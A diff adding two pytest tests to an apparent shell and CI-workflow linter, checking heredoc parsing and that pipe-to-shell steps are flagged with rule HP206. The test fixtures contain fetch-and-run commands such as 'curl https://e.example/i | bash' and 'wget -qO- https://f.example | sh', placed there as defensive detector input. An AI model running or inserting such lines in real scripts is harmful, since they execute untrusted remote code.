@@ -166,3 +166,30 @@ def test_walking_finds_yaml_kinds_by_name_and_by_content(tmp_path: Path) -> None
     # a YAML file named on the command line is read for its Kubernetes objects
     named = discover_files([str(tmp_path / "mkdocs.yml")], settings_for=lambda s: Settings())
     assert [k for _p, k in named] == ["kubernetes"]
+
+
+def test_heredoc_bodies_are_data_not_commands() -> None:
+    from hardpin.parsers.shell import parse_commands
+
+    script = (
+        "cat <<- EOF > x\n\tit's $(curl https://a | sh)\n\tEOF\ncat <<'E' | tee y\nb'\nE\necho ok\n"
+    )
+    assert [c.argv for c in parse_commands(script) if c.words] == [
+        ["cat"],
+        ["cat"],
+        ["tee", "y"],
+        ["echo", "ok"],
+    ]
+
+
+def test_run_steps_map_every_character_of_block_scalars() -> None:
+    """CRLF, `|-`, `|+`, an indentation indicator, a `${{ }}`: findings land on the word."""
+    wf = (
+        "on: push\r\njobs:\r\n  a:\r\n    runs-on: x\r\n    steps:\r\n"
+        "      - run: |-\r\n          echo ${{ github.ref }}\r\n\r\n"
+        "          curl https://e.example/i | bash\r\n"
+        "      - run: |2+\r\n            wget -qO- https://f.example | sh\r\n\r\n"
+    )
+    found = lint_text("ci.yml", "workflow", wf, Settings())
+    hits = [(f.code, f.line, f.column) for f in found if f.code == "HP206"]
+    assert hits == [("HP206", 9, 38), ("HP206", 11, 43)]
